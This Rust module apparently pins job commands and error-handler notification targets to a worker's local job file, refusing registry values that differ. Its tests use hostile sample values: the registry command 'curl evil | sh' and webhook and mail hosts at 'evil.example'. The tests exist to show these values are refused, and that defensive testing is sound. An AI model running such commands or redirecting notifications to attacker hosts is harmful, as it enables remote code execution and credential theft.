//! Values pinned to the job file (docs/src/design/behaviour.md#pinned-commands): which
//! configuration values a worker takes from its own job file rather than from the registry, and
//! what a fire runs and notifies when the two disagree. Pure: the runtime ([`crate::runtime`])
//! logs and counts what [`Pin::apply`] refuses.
//!
//! ElasticJob runs whatever command line the registry holds and notifies whatever endpoint it
//! names, so anyone who can write one config node runs any command on every worker, or makes
//! every worker post its failures (and their stderr) and its mail credentials to a host of the
//! writer's choosing. An ejctl worker keeps the values its job file gives for two sets of
//! [`PinKind`]s, and runs and notifies with those whatever the registry says; a registry value
//! that differs is refused (the job file's is used):
//!
//! * commands: the properties marked `pinned` in [`EXTENSIONS`] (the script command, the
//!   dataflow fetch and process commands, the HTTP request's URI, method and body, the listener
//!   commands);
//! * the error handler's destination: its type ([`error_handler_type`]) and the properties that
//!   say where a notification goes and whether it may travel in clear ([`NOTIFY_TARGETS`]).
//!   Its wording, timeouts and credentials are not pinned: they send nothing anywhere new.
//!
//! Each set has its switch, read from the worker's own job file only, never from the registry
//! (where it is stored for operators to see), so a registry writer cannot turn it on:
//! `allow_registry_commands = true` and `allow_registry_error_handler = true`. In-process jobs
//! have no command, so only their error handler is pinned.

use crate::config::schema::{self, EXTENSIONS, FieldId, prop, switch_key};
use crate::config::{JobConfig, Props};
use crate::registry::codec::result::{REFUSED_VALUE_CAP, cap_head};
use crate::registry::codec::{JobType, RefusedValue};

/// The name a refusal gives the error handler's type: its YAML key, `jobErrorHandlerType`.
pub fn error_handler_type() -> &'static str {
    schema::yaml_key(FieldId::ErrorHandler)
}

/// The error handler's properties that say where a notification goes, and whether it may go
/// without TLS.
pub const NOTIFY_TARGETS: &[&str] = &[
    "dingtalk.webhook",
    "wechat.webhook",
    "webhook.url",
    "email.host",
    "email.port",
    "email.to",
    "email.cc",
    "email.bcc",
    "email.useSsl",
    prop::EMAIL_PLAINTEXT,
];

/// What a pinned value is part of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PinKind {
    /// A command the worker runs.
    Command,
    /// Where the error handler sends a notification.
    ErrorHandler,
}

impl PinKind {
    /// The kind of a pinned key.
    pub fn of(key: &str) -> PinKind {
        if key == error_handler_type() || NOTIFY_TARGETS.contains(&key) {
            PinKind::ErrorHandler
        } else {
            PinKind::Command
        }
    }

    /// The job-file switch that lets the registry's values of this kind through.
    pub fn switch(self) -> &'static str {
        match self {
            PinKind::Command => switch_key::COMMANDS,
            PinKind::ErrorHandler => switch_key::ERROR_HANDLER,
        }
    }

    /// What the worker uses instead of the registry's, for people.
    pub fn noun(self) -> &'static str {
        match self {
            PinKind::Command => "command",
            PinKind::ErrorHandler => "error handler",
        }
    }
}

/// The pinned values of one job, as its job file gives them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pin {
    /// The job type whose command properties are pinned ([`pinned_props`]); `None`: commands
    /// are not pinned (an in-process job, or a job file that allows the registry's).
    commands: Option<&'static str>,
    /// Whether the error handler's type and destination are pinned.
    error_handler: bool,
    /// The job file's values of the pinned keys it sets, by key; a key it leaves unset is not
    /// here. A worker keeps the pin of every job, and most pinned keys (a dozen destinations of
    /// notifications) are unset: a value for every key took 0.65 KB of every job.
    set: Box<[(&'static str, Box<str>)]>,
}

/// A registry value a worker will not use.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// The property, or [`error_handler_type`].
    pub prop: &'static str,
    /// What the registry holds.
    pub registry: Option<String>,
    /// What the job file gives, and the worker uses.
    pub pinned: Option<String>,
}

/// What a fire runs with: the registry's configuration with the pinned values put back, and what
/// was refused on the way.
#[derive(Debug, Clone, PartialEq)]
pub struct Applied {
    /// The configuration to build the executor and the error handler from.
    pub config: JobConfig,
    /// The registry values that differ from the job file's (empty: nothing refused).
    pub refused: Vec<Refused>,
}

/// The job-file `type` name of a command-line job type; `None` for in-process jobs.
fn type_name(job_type: &JobType) -> Option<&'static str> {
    match job_type {
        JobType::Script => Some("script"),
        JobType::Http => Some("http"),
        JobType::Dataflow => Some("dataflow"),
        JobType::InProcess(_) => None,
    }
}

/// A property value as the executors see it: empty means unset.
fn value(props: &Props, key: &str) -> Option<String> {
    props.get(key).filter(|v| !v.is_empty()).cloned()
}

/// The value of a pinned key in `config`. The handler type is compared as the handler reads it:
/// ignoring case, unset meaning `LOG`.
pub fn current(config: &JobConfig, key: &str) -> Option<String> {
    if key == error_handler_type() {
        let kind = config.job_error_handler_type.as_deref().unwrap_or_default().trim().to_ascii_uppercase();
        return Some(if kind.is_empty() { "LOG".to_string() } else { kind });
    }
    value(&config.props, key)
}

/// Sets a pinned key of `config` to `v`.
fn put(config: &mut JobConfig, key: &str, v: Option<&String>) {
    if key == error_handler_type() {
        config.job_error_handler_type = v.cloned();
        return;
    }
    match v {
        Some(v) => config.props.insert(key.to_string(), v.clone()),
        None => config.props.remove(key),
    };
}

/// The pinned command properties of a job type.
pub fn pinned_props(job_type: &JobType) -> Vec<&'static str> {
    type_name(job_type).into_iter().flat_map(props_of_type).collect()
}

/// The pinned command properties of the job type named `name` (its job-file `type`).
fn props_of_type(name: &'static str) -> impl Iterator<Item = &'static str> {
    EXTENSIONS.iter().filter(move |e| e.pinned && e.types.contains(&name)).map(|e| e.prop)
}

/// Every pinned key of a job type: its commands, then its error handler's destination.
pub fn pinned_keys(job_type: &JobType) -> Vec<&'static str> {
    let mut keys = pinned_props(job_type);
    keys.push(error_handler_type());
    keys.extend_from_slice(NOTIFY_TARGETS);
    keys
}

/// Whether the job file's `props` turn the switch `key` on.
fn allowed(props: &Props, key: &str) -> bool {
    props.get(key).is_some_and(|v| v.trim() == "true")
}

impl Pin {
    /// The pin of a job from its job file's configuration; `None` when nothing is pinned (an
    /// in-process job, or a job file that allows both the registry's commands and its error
    /// handler).
    pub fn from_job_file(job_type: &JobType, file: &JobConfig) -> Option<Pin> {
        let commands = type_name(job_type).filter(|_| !allowed(&file.props, prop::ALLOW_REGISTRY_COMMANDS));
        let error_handler = !allowed(&file.props, prop::ALLOW_REGISTRY_ERROR_HANDLER);
        if commands.is_none() && !error_handler {
            return None;
        }
        let mut pin = Pin { commands, error_handler, set: Box::default() };
        pin.set = pin.keys().filter_map(|k| Some((k, current(file, k)?.into_boxed_str()))).collect();
        Some(pin)
    }

    /// The pinned keys: the commands, then the error handler's destination.
    fn keys(&self) -> impl Iterator<Item = &'static str> + use<> {
        let commands = self.commands.into_iter().flat_map(props_of_type);
        let handler =
            self.error_handler.then(|| std::iter::once(error_handler_type()).chain(NOTIFY_TARGETS.iter().copied()));
        commands.chain(handler.into_iter().flatten())
    }

    /// The job file's value of a pinned `key`; `None`: it leaves it unset.
    fn value(&self, key: &str) -> Option<&str> {
        self.set.iter().find(|(k, _)| *k == key).map(|(_, v)| &**v)
    }

    /// What to use given the registry's configuration.
    pub fn apply(&self, registry: &JobConfig) -> Applied {
        let mut config = registry.clone();
        let mut refused = Vec::new();
        for key in self.keys() {
            let pinned = self.value(key).map(str::to_string);
            let stored = current(registry, key);
            if stored == pinned {
                continue;
            }
            put(&mut config, key, pinned.as_ref());
            refused.push(Refused { prop: key, registry: stored, pinned });
        }
        Applied { config, refused }
    }
}

/// The pinned keys whose value differs between two configurations (what `config set` warns
/// about).
pub fn changed_pinned(job_type: &JobType, old: &JobConfig, new: &JobConfig) -> Vec<&'static str> {
    pinned_keys(job_type).into_iter().filter(|k| current(old, k) != current(new, k)).collect()
}

/// `v` as outputs show it: tokens in URLs masked.
fn show(v: &Option<String>) -> String {
    v.as_deref().map_or_else(|| "(unset)".to_string(), |v| format!("'{}'", crate::config::secrets::mask_urls(v)))
}

/// One line for the log: `script.command.line: the registry has '...', the job file '...'`
/// (tokens in URLs masked).
pub fn describe<'r>(refused: impl IntoIterator<Item = &'r Refused>) -> String {
    lines(refused.into_iter().map(|r| (r.prop, &r.registry, &r.pinned)))
}

/// `prop: the registry has '...', the job file '...'` for each refusal, joined with `; `.
fn lines<'r>(refused: impl Iterator<Item = (&'r str, &'r Option<String>, &'r Option<String>)>) -> String {
    refused
        .map(|(prop, registry, file)| {
            format!("{prop}: the registry has {}, the job file {}", show(registry), show(file))
        })
        .collect::<Vec<_>>()
        .join("; ")
}

/// What a run records of `refused` on its item's `result` leaf, for `ejctl why`.
pub fn recorded(refused: &[Refused]) -> Vec<RefusedValue> {
    refused
        .iter()
        .map(|r| RefusedValue { prop: r.prop.to_string(), registry: r.registry.clone(), job_file: r.pinned.clone() })
        .collect()
}

/// The refusals recorded on a result that still stand: the registry still holds another value
/// than the job file's (one set back since is no longer refused). Values are compared as
/// recorded, cut at [`REFUSED_VALUE_CAP`].
pub fn standing<'r>(config: &JobConfig, refused: &'r [RefusedValue]) -> Vec<&'r RefusedValue> {
    refused.iter().filter(|r| current(config, &r.prop).map(|v| cap_head(&v, REFUSED_VALUE_CAP)) != r.job_file).collect()
}

/// Recorded refusals for people, tokens in URLs masked: `script.command.line: the registry has
/// '...', the job file '...'; ...`.
pub fn detail(refused: &[&RefusedValue]) -> String {
    lines(refused.iter().map(|r| (r.prop.as_str(), &r.registry, &r.job_file)))
}

/// The `ejctl config set` assignment that sets a pinned key to `v` (`None`: unset).
pub fn set_back(key: &str, v: Option<&str>, quote: impl Fn(&str) -> String) -> String {
    let v = v.map(quote).unwrap_or_default();
    if key == error_handler_type() {
        format!("{}={v}", schema::field(FieldId::ErrorHandler).file)
    } else {
        format!("props.{key}={v}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(pairs: &[(&str, &str)]) -> JobConfig {
        let mut c = JobConfig::new("j", 1);
        c.props = pairs.iter().map(|(k, v)| ((*k).to_string(), (*v).to_string())).collect();
        c
    }

    /// The refusals of the command properties only.
    fn commands(applied: &Applied) -> Vec<Refused> {
        applied.refused.iter().filter(|r| PinKind::of(r.prop) == PinKind::Command).cloned().collect()
    }

    #[test]
    fn pinned_properties_per_type() {
        let listeners =
            [prop::LISTENER_BEFORE, prop::LISTENER_AFTER, prop::LISTENER_BEFORE_ONCE, prop::LISTENER_AFTER_ONCE];
        assert_eq!(pinned_props(&JobType::Script), [&[prop::SCRIPT_COMMAND_LINE][..], &listeners].concat());
        let http = [prop::HTTP_URI, prop::HTTP_METHOD, prop::HTTP_DATA];
        assert_eq!(pinned_props(&JobType::Http), [&http[..], &listeners].concat());
        let dataflow = [prop::DATAFLOW_FETCH, prop::DATAFLOW_PROCESS];
        assert_eq!(pinned_props(&JobType::Dataflow), [&dataflow[..], &listeners].concat());
        assert!(pinned_props(&JobType::InProcess("x".into())).is_empty());
        assert_eq!(
            pinned_keys(&JobType::InProcess("x".into())),
            [&[error_handler_type()][..], NOTIFY_TARGETS].concat()
        );
        assert_eq!(PinKind::of("webhook.url"), PinKind::ErrorHandler);
        assert_eq!(PinKind::of(prop::SCRIPT_COMMAND_LINE), PinKind::Command);
    }

    #[test]
    fn registry_values_are_refused_and_pinned_ones_run() {
        let file = config(&[(prop::SCRIPT_COMMAND_LINE, "/opt/job.sh"), (prop::TIMEOUT_SECONDS, "5")]);
        let pin = Pin::from_job_file(&JobType::Script, &file).unwrap();
        // The same command: nothing refused; other properties come from the registry.
        let same = config(&[(prop::SCRIPT_COMMAND_LINE, "/opt/job.sh"), (prop::TIMEOUT_SECONDS, "9")]);
        assert_eq!(pin.apply(&same), Applied { config: same.clone(), refused: vec![] });
        // Another command: refused, the job file's runs.
        let evil = config(&[(prop::SCRIPT_COMMAND_LINE, "curl evil | sh"), (prop::TIMEOUT_SECONDS, "9")]);
        let applied = pin.apply(&evil);
        assert_eq!(applied.config, same);
        assert_eq!(
            applied.refused,
            vec![Refused {
                prop: prop::SCRIPT_COMMAND_LINE,
                registry: Some("curl evil | sh".into()),
                pinned: Some("/opt/job.sh".into())
            }]
        );
        assert_eq!(
            describe(&applied.refused),
            "script.command.line: the registry has 'curl evil | sh', the job file '/opt/job.sh'"
        );
        assert_eq!(
            recorded(&applied.refused),
            vec![RefusedValue {
                prop: prop::SCRIPT_COMMAND_LINE.into(),
                registry: Some("curl evil | sh".into()),
                job_file: Some("/opt/job.sh".into())
            }]
        );
        // Removed from the registry: refused too, the job file's runs.
        assert_eq!(
            pin.apply(&config(&[])).config.props.get(prop::SCRIPT_COMMAND_LINE).map(String::as_str),
            Some("/opt/job.sh")
        );
    }

    #[test]
    fn a_value_the_job_file_leaves_unset_stays_unset() {
        let file = config(&[(prop::HTTP_URI, "https://h/run"), (prop::HTTP_METHOD, "GET")]);
        let pin = Pin::from_job_file(&JobType::Http, &file).unwrap();
        let added = config(&[(prop::HTTP_URI, "https://h/run"), (prop::HTTP_METHOD, "GET"), (prop::HTTP_DATA, "x")]);
        let applied = pin.apply(&added);
        assert_eq!(applied.config, file);
        assert_eq!(applied.refused.len(), 1);
        // An empty value is unset.
        let empty = config(&[(prop::HTTP_URI, "https://h/run"), (prop::HTTP_METHOD, "GET"), (prop::HTTP_DATA, "")]);
        assert!(pin.apply(&empty).refused.is_empty());
    }

    #[test]
    fn the_error_handler_destination_is_pinned_its_wording_is_not() {
        let mut file = config(&[
            (prop::SCRIPT_COMMAND_LINE, "/opt/job.sh"),
            ("webhook.url", "https://hooks.example.com/T?token=abc"),
            ("webhook.readTimeoutMilliseconds", "5000"),
        ]);
        file.job_error_handler_type = Some("webhook".into());
        let pin = Pin::from_job_file(&JobType::Script, &file).unwrap();
        // The same, spelled in ElasticJob's case, with another timeout: nothing refused.
        let mut same = file.clone();
        same.job_error_handler_type = Some("WEBHOOK".into());
        same.props.insert("webhook.readTimeoutMilliseconds".into(), "9000".into());
        assert!(pin.apply(&same).refused.is_empty());
        // A registry writer's endpoint and a mail handler: both refused, the job file's used.
        let mut evil = file.clone();
        evil.job_error_handler_type = Some("EMAIL".into());
        evil.props.insert("webhook.url".into(), "https://evil.example/?token=x".into());
        evil.props.insert("email.host".into(), "evil.example".into());
        let applied = pin.apply(&evil);
        assert_eq!(applied.config.job_error_handler_type.as_deref(), Some("WEBHOOK"));
        assert_eq!(applied.config.props, file.props);
        let keys: Vec<&str> = applied.refused.iter().map(|r| r.prop).collect();
        assert_eq!(keys, [error_handler_type(), "webhook.url", "email.host"]);
        assert!(commands(&applied).is_empty());
        // Logs never show a URL's token.
        assert_eq!(
            describe(&applied.refused[1..2]),
            "webhook.url: the registry has 'https://evil.example/?token=****', the job file 'https://hooks.example.com/T?token=****'"
        );
        // Unset means LOG.
        let log = config(&[(prop::SCRIPT_COMMAND_LINE, "a")]);
        let mut explicit = log.clone();
        explicit.job_error_handler_type = Some("log".into());
        assert!(Pin::from_job_file(&JobType::Script, &log).unwrap().apply(&explicit).refused.is_empty());
        assert_eq!(set_back(error_handler_type(), Some("WEBHOOK"), str::to_string), "job_error_handler_type=WEBHOOK");
        assert_eq!(set_back("webhook.url", None, str::to_string), "props.webhook.url=");
    }

    #[test]
    fn the_job_file_can_allow_the_registry_values_and_in_process_jobs_pin_their_handler_only() {
        let allow_both = config(&[
            (prop::SCRIPT_COMMAND_LINE, "a"),
            (prop::ALLOW_REGISTRY_COMMANDS, "true"),
            (prop::ALLOW_REGISTRY_ERROR_HANDLER, "true"),
        ]);
        assert_eq!(Pin::from_job_file(&JobType::Script, &allow_both), None);
        let commands_only = config(&[(prop::SCRIPT_COMMAND_LINE, "a"), (prop::ALLOW_REGISTRY_ERROR_HANDLER, "true")]);
        let pin = Pin::from_job_file(&JobType::Script, &commands_only).unwrap();
        let mut other = commands_only.clone();
        other.job_error_handler_type = Some("WEBHOOK".into());
        other.props.insert("webhook.url".into(), "https://h/".into());
        assert!(pin.apply(&other).refused.is_empty());
        let handler_only = config(&[(prop::SCRIPT_COMMAND_LINE, "a"), (prop::ALLOW_REGISTRY_COMMANDS, "true")]);
        let pin = Pin::from_job_file(&JobType::Script, &handler_only).unwrap();
        assert_eq!(pin.apply(&other).refused.len(), 2);
        other.props.insert(prop::SCRIPT_COMMAND_LINE.into(), "b".into());
        assert!(commands(&pin.apply(&other)).is_empty());
        let pin = Pin::from_job_file(&JobType::InProcess("J".into()), &config(&[])).unwrap();
        assert_eq!(pin.apply(&other).refused.len(), 2);
    }

    #[test]
    fn changes_of_pinned_values() {
        let old =
            config(&[(prop::DATAFLOW_FETCH, "f"), (prop::DATAFLOW_PROCESS, "p"), (prop::STREAMING_PROCESS, "true")]);
        let mut new = old.clone();
        new.props.insert(prop::STREAMING_PROCESS.into(), "false".into());
        assert!(changed_pinned(&JobType::Dataflow, &old, &new).is_empty());
        new.props.insert(prop::DATAFLOW_PROCESS.into(), "q".into());
        new.props.insert("email.to".into(), "x@example.com".into());
        assert_eq!(changed_pinned(&JobType::Dataflow, &old, &new), vec![prop::DATAFLOW_PROCESS, "email.to"]);
    }
}
